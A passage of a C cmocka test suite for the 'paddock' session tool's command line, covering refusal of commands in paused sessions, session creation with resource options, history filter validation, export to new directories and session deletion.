    reply_free(&r);
    free(path);
    struct proc_result pr;
    const char *ex[] = {"exec", "cli-paused", "--", "true", NULL};
    cli(ex, &pr);
    assert_int_equal(pr.status, 1);
    assert_err_has(&pr, "`paddock resume cli-paused`");
    assert_null(strstr(pr.err, "POST"));
    proc_result_free(&pr);
    const char *run[] = {"run", "--session", "cli-paused", "--", "true", NULL};
    cli(run, &pr);
    assert_int_equal(pr.status, 125);
    assert_err_has(&pr, "`paddock resume cli-paused`");
    assert_null(strstr(pr.err, "POST"));
    proc_result_free(&pr);
    path = strdupf("/v1/sessions/%s/execute_action", id);
    api(harness_eng, "POST", path,
        "{\"action\": {\"action\": \"run\", \"args\": {\"command\": \"true\"}}}", &r);
    free(path);
    assert_int_equal(r.status, 409);
    assert_string_equal(jstr(r.json, "error.code"), "session_paused");
    assert_non_null(strstr(jstr(r.json, "error.message"), "/resume"));
    reply_free(&r);
    session_delete(harness_eng, id);
    json_decref(s);
}

/* paddock new: a session that stays, with the create options; show renders its options for
 * people; history refuses a state or kind that does not exist; export makes missing dirs. */
static void test_new_show_history_export(void **state)
{
    struct proc_result pr;
    const char *mk[] = {"new", "--name", "cli-new", "--memory",  "2g",   "--cpus",
                        "1.5", "--env",  "FOO=bar", "--network", "none", NULL};
    cli(mk, &pr);
    if (pr.status != 0)
        fprintf(stderr, "new: %s\n", pr.err);
    assert_int_equal(pr.status, 0);
    char id[64] = "";
    assert_int_equal(sscanf(pr.out, "cli-new %63s", id), 1);
    assert_int_equal(strlen(id), 16);
    proc_result_free(&pr);
    char *path = strdupf("/v1/sessions/%s", id);
    json_t *s = api_json(harness_eng, "GET", path, NULL, 200);
    free(path);
    assert_string_equal(jstr(s, "state"), "ready");
    assert_int_equal(json_integer_value(jpath(s, "options.limits.memory")), 2147483648LL);
    assert_string_equal(json_string_value(json_array_get(json_object_get(s, "env"), 0)), "FOO");
    json_decref(s);

    const char *show[] = {"show", "cli-new", NULL};
    cli(show, &pr);
    assert_int_equal(pr.status, 0);
    assert_non_null(strstr(pr.out, "limits.memory        2.0 GiB"));
    assert_non_null(strstr(pr.out, "limits.cpus          1.5"));
    assert_null(strstr(pr.out, "2147483648"));
    assert_null(strstr(pr.out, "{"));
    proc_result_free(&pr);

    const char *bad_state[] = {"history", "--state", "bogus", NULL};
    cli(bad_state, &pr);
    assert_int_equal(pr.status, 1);
    assert_err_has(&pr, "pending, running, done");
    proc_result_free(&pr);
    const char *bad_kind[] = {"history", "--kind", "bogus", NULL};
    cli(bad_kind, &pr);
    assert_int_equal(pr.status, 1);
    assert_err_has(&pr, "no action kind \"bogus\"");
    assert_err_has(&pr, "run");
    proc_result_free(&pr);

    char dir[] = "/tmp/paddock-cli-export.XXXXXX";
    assert_non_null(mkdtemp(dir));
    char *out = strdupf("%s/reports/today/cli-new.md", dir);
    const char *ex[] = {"export", "cli-new", "--format", "md", "-o", out, NULL};
    cli(ex, &pr);
    if (pr.status != 0)
        fprintf(stderr, "export: %s\n", pr.err);
    assert_int_equal(pr.status, 0);
    assert_int_equal(access(out, R_OK), 0);
    proc_result_free(&pr);
    char *rm = strdupf("rm -rf '%s'", dir);
    assert_int_equal(system(rm), 0);
    free(rm);
    free(out);

    const char *del[] = {"rm", "cli-new", NULL};
    cli(del, &pr);
    assert_int_equal(pr.status, 0);
    assert_non_null(strstr(pr.out, "deleted cli-new"));
    proc_result_free(&pr);
}

int main(void)
{
    harness_require();
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_run_echo),
        cmocka_unit_test(test_run_exit_code),
        cmocka_unit_test(test_run_quoting),
        cmocka_unit_test(test_run_in_session),
        cmocka_unit_test(test_ls_json),
        cmocka_unit_test(test_approve_reject),
        cmocka_unit_test(test_history_show_export),
        cmocka_unit_test(test_lifecycle_commands),
        cmocka_unit_test(test_risk),
        cmocka_unit_test(test_exec_quoting),
        cmocka_unit_test(test_run_missing_image),
        cmocka_unit_test(test_run_stdin),
        cmocka_unit_test(test_export_approved),
        cmocka_unit_test(test_engine_down),
        cmocka_unit_test(test_session_refs),
        cmocka_unit_test(test_paused_session),
        cmocka_unit_test(test_new_show_history_export),
    };
    int failed = cmocka_run_group_tests_name("cli", tests, harness_group_setup,
                                             harness_group_teardown_clean);
    return failed || harness_teardown_failed ? 1 : 0;
}
